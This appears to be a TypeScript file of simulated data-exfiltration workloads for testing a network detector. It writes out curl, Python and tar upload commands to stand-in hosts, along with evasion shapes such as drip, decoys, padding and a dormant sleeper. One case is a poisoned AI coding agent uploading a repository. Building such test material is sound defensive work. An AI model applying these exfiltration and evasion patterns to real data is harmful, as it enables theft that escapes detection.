// Exfiltration in the shapes that detection-2026 and its kind name. Nothing here does harm: random bytes go to a server of
// ours. What is small or slow in life is small and fast here; how a day is made of it is the evaluation's to say.
import type { Server, Workload } from './table.ts'

const sink = (host: string, address: string, port: number, more: object = {}): Server => ({
  ...{ kind: 'sink', host, address, port, isAttacks: true },
  ...more,
})

const implant = {
  label: 'attack',
  needs: [],
  implants: ['updater'],
  signers: ['unsigned', 'adhoc', 'developer-id', 'notarized'],
} as const
const send = (to: string, bytes: number, more = ''): string =>
  `~/.cache/updater --to ${to} --bytes ${bytes}${more === '' ? '' : ` ${more}`} >/dev/null`

const HOSTS = 100
const manyHosts = Array.from({ length: HOSTS }, (_, i) => `198.18.${i}.9`)

const PYTHON = `import os, ssl, urllib.request
context = ssl.create_default_context(cafile=os.environ['CA'])
data = os.urandom(4000000)
urllib.request.urlopen(urllib.request.Request('https://paste.example/notes', data, method='PUT'), context=context).read()
`

const PARENT = `
import { execFileSync } from 'node:child_process'
execFileSync('head', ['-c', '3000000', '/dev/urandom'], { maxBuffer: 4e6 })
execFileSync('sh', ['-c', 'head -c 3000000 /dev/urandom >k.bin; curl -sS -T k.bin https://drop.example/k'], { stdio: 'inherit' })
`

const SERVE = `
import { createServer } from 'node:net'
import { randomBytes } from 'node:crypto'
const all = randomBytes(14_000_000)
const server = createServer((peer) => {
  peer.on('error', () => {})
  peer.on('data', () => peer.end(all))
  peer.on('close', () => setTimeout(() => process.exit(0), 200))
})
server.listen(8443)
`

/** It asks its model, as it does all day; what a poisoned file made it run is its child. */
const AGENT = `
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
for (let turn = 0; turn < 4; turn++)
  await (await fetch('https://model.example/v1/messages', { method: 'POST', body: randomBytes(60_000) })).text()
execFileSync('bash', ['-c', 'mkdir -p repository; head -c 4000000 /dev/urandom >repository/pack; tar cf - repository | curl -sS -T - https://gist.example/r'], { stdio: 'inherit' })
await (await fetch('https://model.example/v1/messages', { method: 'POST', body: randomBytes(80_000) })).text()
`

export const ATTACKS: readonly Workload[] = [
  {
    ...implant,
    name: 'silent-sink',
    kind: 'silent',
    about: '3 MB in one flow to a server that never answers',
    servers: [sink('a.example', '203.0.113.71', 443)],
    near: send('203.0.113.71:443', 3_000_000),
  },
  {
    ...implant,
    name: 'drip',
    kind: 'drip',
    about: 'twenty times 64 kB, two seconds apart, an answer of 200 B each',
    servers: [sink('b.example', '203.0.113.72', 443, { answerBytes: 200 })],
    near: `for i in $(seq 20); do ${send('203.0.113.72:443', 64_000)}; sleep 2; done`,
  },
  {
    ...implant,
    name: 'many-flows',
    kind: 'many-flows',
    about: '5 MB over 200 flows, with answers of 6 KiB each',
    servers: [sink('c.example', '203.0.113.73', 443, { answerBytes: 6_144 })],
    near: send('203.0.113.73:443', 5_000_000, '--flows 200'),
  },
  {
    ...implant,
    name: 'many-ports',
    kind: 'many-ports',
    about: '10 MB over 100 ports of one host',
    servers: [sink('d.example', '203.0.113.74', 20_000, { ports: 100, answerBytes: 500 })],
    near: `for i in $(seq 0 99); do ${send('203.0.113.74:$((20000 + i))', 100_000)}; done`,
  },
  {
    ...implant,
    name: 'many-hosts',
    kind: 'many-hosts',
    about: '10 MB to 100 hosts, each in a network of its own',
    servers: manyHosts.map((address, i) =>
      sink(`h${i}.example`, address, 443, { answerBytes: 500 }),
    ),
    near: `for i in $(seq 0 99); do ${send('198.18.$i.9:443', 100_000)}; done`,
  },
  {
    ...implant,
    name: 'after-download',
    kind: 'after-download',
    about:
      '8 MB of tools come down first, then 3 MB go out to the same host in flows of 250 kB with 4 kB back',
    servers: [
      {
        ...{ kind: 'tools', host: 'e.example', address: '203.0.113.75', port: 443 },
        ...{ firstBytes: 8_000_000, answerBytes: 4_000, isAttacks: true },
      },
    ],
    near: `${send('203.0.113.75:443', 400)}
for i in $(seq 12); do ${send('203.0.113.75:443', 250_000)}; done`,
  },
  {
    name: 'python-script',
    kind: 'interpreter',
    label: 'attack',
    about: 'a script of Python in a user’s folder puts 4 MB by HTTPS',
    needs: ['python3'],
    servers: [
      { kind: 'web', host: 'paste.example', address: '203.0.113.76', port: 443, isAttacks: true },
    ],
    near: `mkdir -p .local/share && cat >.local/share/sync.py <<'END'
${PYTHON}END
sleep 1 # Else it may have been changed as it was started, and is a stranger by that alone.
exec /usr/bin/python3 .local/share/sync.py`,
    signers: ['acting'],
  },
  {
    name: 'curl-for-unknown',
    kind: 'acting',
    label: 'attack',
    about: 'a program that nobody has seen has curl put 3 MB',
    needs: ['curl'],
    apps: [{ name: 'helperd', text: PARENT }],
    servers: [
      { kind: 'web', host: 'drop.example', address: '203.0.113.77', port: 443, isAttacks: true },
    ],
    near: '/opt/helperd/helperd /opt/helperd/app.mjs',
    signers: ['acting'],
  },
  {
    ...implant,
    name: 'padded-seventh',
    kind: 'padded',
    about: '4 MB, of which a seventh comes back as junk',
    servers: [sink('f.example', '203.0.113.78', 443, { answerShare: 1 / 7 })],
    near: send('203.0.113.78:443', 4_000_000),
  },
  {
    ...implant,
    name: 'padded-even',
    kind: 'padded',
    about: '4 MB, and as much junk back',
    servers: [sink('g.example', '203.0.113.79', 443, { answerShare: 1 })],
    near: send('203.0.113.79:443', 4_000_000),
  },
  {
    name: 'serving',
    kind: 'serving',
    label: 'attack',
    about: 'a new program listens and is fetched from: 14 MB',
    needs: [],
    apps: [{ name: 'shared', text: SERVE }],
    servers: [
      { kind: 'fetcher', host: 'j.example', address: '203.0.113.80', port: 8443, isAttacks: true },
    ],
    near: '/opt/shared/shared /opt/shared/app.mjs',
    signers: ['unsigned', 'adhoc', 'developer-id'],
  },
  {
    ...implant,
    name: 'decoys',
    kind: 'decoys',
    about: 'three uploads of 1.5 MB to three hosts, then 6 MB to a fourth',
    servers: [
      sink('k1.example', '203.0.113.81', 443),
      sink('k2.example', '198.51.100.81', 443),
      sink('k3.example', '198.18.181.1', 443),
      sink('k4.example', '198.18.182.1', 443),
    ],
    near: `for to in 203.0.113.81 198.51.100.81 198.18.181.1; do ${send('$to:443', 1_500_000)}; sleep 2; done
${send('198.18.182.1:443', 6_000_000)}`,
  },
  {
    ...implant,
    name: 'sleeper',
    kind: 'sleeper',
    about: 'used the network once, 31 days before; 4 MB now',
    servers: [sink('l.example', '203.0.113.82', 443)],
    near: send('203.0.113.82:443', 4_000_000),
    sleeper: { daysBefore: [31], before: send('203.0.113.82:443', 300) },
  },
  {
    name: 'coding-agent',
    kind: 'agent',
    label: 'attack',
    about:
      'an AI coding agent talks to its model; its child sends a repository of 4 MB elsewhere by tar and curl',
    needs: ['curl', 'tar'],
    apps: [{ name: 'codehand', text: AGENT }],
    servers: [
      { kind: 'web', host: 'model.example', address: '198.51.100.83', port: 443 },
      { kind: 'web', host: 'gist.example', address: '203.0.113.83', port: 443, isAttacks: true },
    ],
    near: '/opt/codehand/codehand /opt/codehand/app.mjs',
    signers: ['acting'],
  },
  {
    name: 'udp-burst',
    kind: 'datagrams',
    label: 'attack',
    about:
      'a script of Python sends 2 MB of datagrams to port 443, nothing comes back: the Linux source tells sums alone',
    needs: ['python3'],
    servers: [
      {
        ...{ kind: 'datagrams', host: 'm.example', address: '203.0.113.84', port: 443 },
        ...{ answers: false, isAttacks: true },
      },
    ],
    near: `cat >q.py <<'END'
import os, socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(1600):
    s.sendto(os.urandom(1250), ('203.0.113.84', 443))
    if i % 8 == 0: time.sleep(0.006)
END
sleep 1
exec /usr/bin/python3 q.py`,
    signers: ['acting'],
  },
]
